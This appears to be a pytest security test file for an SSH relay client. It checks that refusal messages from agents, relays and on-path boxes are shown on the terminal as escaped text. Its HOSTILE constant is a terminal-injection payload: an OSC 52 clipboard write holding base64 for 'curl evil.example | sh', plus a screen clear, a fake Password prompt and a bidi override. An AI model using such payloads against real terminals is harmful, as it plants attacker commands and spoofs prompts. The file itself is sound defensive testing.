"""Words a peer chose, shown on a user's terminal: as text, never as escape sequences.

``labrelay connect`` runs as ssh's ProxyCommand, and ssh passes its stderr straight to
the user's terminal.  What it says there is mostly someone else's words: the relay's
refusals, the reason an *agent* gave for a refused open (which the relay passed on),
the data port's error byte (unencrypted: an on-path box can write it), a disconnect's
text.  They were written raw, so any of those could send terminal control sequences:
clear her screen, draw a fake ``Password:`` prompt, retitle the window, or through
OSC 52 put a command in her clipboard (xterm, kitty, iTerm2 take it).  OpenSSH's client
shows a server's words through ``strnvis`` for this reason.

Three doors, each with clients we did not write:

- a malicious **agent** (paramiko, lab_pc's key) registers ``web:8080`` through an
  honest relay and refuses every open with an OSC 52 + screen-clear + fake prompt +
  U+202E reason, or one of 256 KiB: the relay passes it on as printable text, bounded
  (seen by an asyncssh user and by ``labrelay connect``);
- a **compromised relay** (a paramiko server with the relay's host key) refuses
  ``labrelay connect``'s fast-path ticket and its channel with those words;
- an **on-path box on the data port**: the relay's ticket is fine, the data port
  answers the challenge and then the error byte with those words.

Every time ``labrelay connect`` exits 1 with one printable line per message.  A
malformed answer to its ticket request (it said ``internal error: truncated uint32``)
is a fast path unavailable: it falls back to a channel, as with a stock sshd.
"""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import asyncssh
import paramiko
import pytest
from harness import LOOPBACK, RelayNode, known_hosts_line, make_key, write_known_hosts
from paramiko.common import (
    MSG_CHANNEL_OPEN,
    MSG_GLOBAL_REQUEST,
    cMSG_CHANNEL_OPEN_FAILURE,
    cMSG_REQUEST_FAILURE,
    cMSG_REQUEST_SUCCESS,
)
from paramiko.message import Message
from relay_fixtures import child_env

from relay.core import fastwire as fw
from relay.user.connect import REFUSED_HINT

pytestmark = [pytest.mark.integration, pytest.mark.security]

HOSTILE = ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[H\x1b]0;owned\x07"
           "\r\nPassword: \u202eevil\x9b2J")
"""OSC 52 (the clipboard: ``curl evil.example | sh``), clear screen, home, OSC 0 (the
window title), CR LF and a fake prompt, a right-to-left override, a C1 CSI."""
HUGE = "A" * (256 << 10)
"""A quarter of a megabyte of reason (under every implementation's packet limit)."""


def _refuse_opens(t: paramiko.Transport, text: str) -> None:
    """Make paramiko answer every CHANNEL_OPEN with OPEN_CONNECT_FAILED and ``text``
    (paramiko's own refusals carry no text)."""
    def refuse(m: Message) -> None:
        m.get_text()  # the channel type
        chanid = m.get_int()
        f = Message()
        f.add_byte(cMSG_CHANNEL_OPEN_FAILURE)
        f.add_int(chanid)
        f.add_int(2)  # OPEN_CONNECT_FAILED
        f.add_string(text)
        f.add_string("en")
        t._send_user_message(f)

    t._handler_table[MSG_CHANNEL_OPEN] = refuse


def _connect(argv: list[str], home: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "relay", "connect", *argv], capture_output=True, timeout=60,
        stdin=subprocess.DEVNULL,
        env={**os.environ, **child_env(), "HOME": str(home), "SSH_AUTH_SOCK": ""})


def _only_text(stderr: bytes) -> list[str]:
    """stderr's lines, each asserted printable (no ESC, BEL, CR, C1, bidi override)."""
    text = stderr.decode("utf-8")
    assert text.endswith("\n")
    lines = text[:-1].split("\n")
    for line in lines:
        assert line.isprintable(), f"control characters reached the terminal: {line!r}"
    return lines


def test_an_agents_refusal_reaches_the_user_as_text(
    start_relay: Callable[..., RelayNode], tmp_path: Path,
) -> None:
    lab_pc = make_key(tmp_path / "lab_pc", "lab_pc")
    alice = make_key(tmp_path / "alice", "alice")
    relay = start_relay(agents=[f'permitlisten="web:8080" {lab_pc.public_blob()} lab_pc'],
                        users=[f'permitopen="web:8080" {alice.public_blob()} alice'])
    agent = paramiko.Transport((LOOPBACK, relay.port))
    agent.connect(username="lab_pc",
                  pkey=paramiko.Ed25519Key.from_private_key_file(str(lab_pc.path)))

    async def refusal() -> str:
        """What the relay says to a user's client (asyncssh hands it over as is)."""
        async with asyncssh.connect(LOOPBACK, relay.port, username="alice", known_hosts=None,
                                    client_keys=[str(alice.path)]) as conn:
            with pytest.raises(asyncssh.ChannelOpenError) as refused:
                await conn.open_connection("web", 8080)
            return str(refused.value.reason)

    try:
        _refuse_opens(agent, HOSTILE)
        assert agent.global_request("tcpip-forward", ("web", 8080), wait=True) is not None

        said = asyncio.run(refusal())
        print(f"\nthe relay to an asyncssh user: {said!r}")
        assert said.isprintable() and "\\x1b]52;c;" in said and "\\u202eevil" in said

        out = _connect(["--no-fast-path", "-p", str(relay.port), "-i", str(alice.path),
                        "-o", f"UserKnownHostsFile={relay.known_hosts}",
                        f"alice@{LOOPBACK}", "web:8080"], tmp_path)
        print(f"labrelay connect: {out.stderr!r}")
        assert out.returncode == 1
        (line,) = _only_text(out.stderr)
        assert "its agent could not connect it: \\x1b]52;c;" in line

        # A quarter megabyte of reason: bounded at the relay.
        _refuse_opens(agent, HUGE)
        said = asyncio.run(refusal())
        print(f"the 256 KiB reason as passed on: {len(said)} characters, ends {said[-30:]!r}")
        assert len(said) < 1000 and said.endswith(f"[... {len(HUGE) - 200} more chars]")
    finally:
        agent.close()


class _HostileRelay(paramiko.ServerInterface):
    """A relay that lets anyone in; what it says is set by the test."""

    def get_allowed_auths(self, username: str) -> str:
        return "publickey"

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        return paramiko.AUTH_SUCCESSFUL


def _serve_hostile_relay(listener: socket.socket, host_key: Path, token_reply: bytes | None,
                         open_refusal: str) -> threading.Thread:
    """Accept one ``labrelay connect``; answer its fast-path ticket request with
    ``token_reply`` (None: REQUEST_FAILURE, a relay without a fast path) and refuse
    its channel with ``open_refusal``."""
    def serve() -> None:
        sock, _ = listener.accept()
        t = paramiko.Transport(sock)
        t.add_server_key(paramiko.Ed25519Key.from_private_key_file(str(host_key)))

        def global_request(m: Message) -> None:
            kind = m.get_string()
            want = m.get_boolean()
            if not want:
                return
            r = Message()
            if kind == fw.TOKEN_REQUEST and token_reply is not None:
                r.add_byte(cMSG_REQUEST_SUCCESS)
                r.add_bytes(token_reply)
            else:
                r.add_byte(cMSG_REQUEST_FAILURE)
            t._send_user_message(r)

        t._handler_table[MSG_GLOBAL_REQUEST] = global_request
        _refuse_opens(t, open_refusal)
        try:
            t.start_server(server=_HostileRelay())
        except paramiko.SSHException:
            # The client went away before the key exchange ended (seen once in a -n 2
            # run at load 12, the test passing: what is asserted is the client's line,
            # not this thread's); without this pytest reports the thread's exception.
            t.close()
            return
        t.join(60)
        t.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return thread


def _data_port_box(listener: socket.socket, words: str) -> threading.Thread:
    """An on-path box at the data port: the challenge, then the error byte."""
    def serve() -> None:
        sock, _ = listener.accept()
        with sock:
            sock.sendall(fw.challenge(os.urandom(fw.NONCE_LEN)))
            sock.recv(4096)  # the user's hello
            sock.sendall(fw.pack_error(fw.USER_ERROR, words))
            sock.recv(1)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return thread


@pytest.mark.parametrize("door", ["ticket refused", "channel refused", "data port",
                                  "huge refusal", "malformed ticket"])
def test_labrelay_connect_shows_a_relays_words_as_text(door: str, tmp_path: Path) -> None:
    host_key = make_key(tmp_path / "relay_host_key", "relay")
    alice = make_key(tmp_path / "alice", "alice")
    listener = socket.create_server((LOOPBACK, 0))
    listener.settimeout(30)
    port = listener.getsockname()[1]
    known_hosts = write_known_hosts(tmp_path / "known_hosts",
                                    known_hosts_line(host_key.public_blob(), port))
    argv = ["-p", str(port), "-i", str(alice.path), "-o", f"UserKnownHostsFile={known_hosts}",
            f"alice@{LOOPBACK}", "web:8080"]
    box = None
    if door == "ticket refused":
        reply = fw.pack_token_reply(fw.Status.REFUSED, HOSTILE)
        expect = "the relay refused web:8080: \\x1b]52;c;"
    elif door == "data port":
        data = socket.create_server((LOOPBACK, 0))
        data.settimeout(30)
        reply = fw.pack_token_reply(fw.Status.OK, "", data.getsockname()[1],
                                    os.urandom(fw.TOKEN_LEN), 30)
        box = _data_port_box(data, HOSTILE)
        expect = "the relay refused web:8080: \\x1b]52;c;"
    elif door == "malformed ticket":  # was "internal error: truncated uint32"
        reply = b"\x00\x00\x00\x00\x00\x00\x00\x07\x1b[2J"
        expect = "fast path unavailable for web:8080 (its ticket answer is malformed: "
    else:
        reply = fw.pack_token_reply(fw.Status.UNAVAILABLE, HOSTILE)
        expect = "the relay refused web:8080: \\x1b]52;c;"
    relay = _serve_hostile_relay(listener, host_key.path, reply,
                                 HUGE if door == "huge refusal" else HOSTILE)
    out = _connect(argv, tmp_path)
    relay.join(30)
    if box is not None:
        box.join(30)
    print(f"\n{door}: exit {out.returncode}, stderr {out.stderr[:600]!r} "
          f"({len(out.stderr)} bytes)")
    assert out.returncode == 1
    lines = _only_text(out.stderr)
    # "malformed ticket" falls back to a channel, as for a stock sshd, refused there.
    if door == "huge refusal":
        assert len(out.stderr) < 5000
        # the relay's words cut, the line's own (what to do) kept whole
        assert lines[-1].endswith(f"more chars] ({REFUSED_HINT})"), lines[-1]
    else:
        assert any(expect in line for line in lines), lines
    # One wording whichever way the refusal came (the ticket, the data port, a
    # channel): what was refused, the relay's reason as text, what to do.
    assert lines[-1].startswith("labrelay connect: the relay refused web:8080: ")
    assert lines[-1].endswith(f" ({REFUSED_HINT})"), lines[-1]
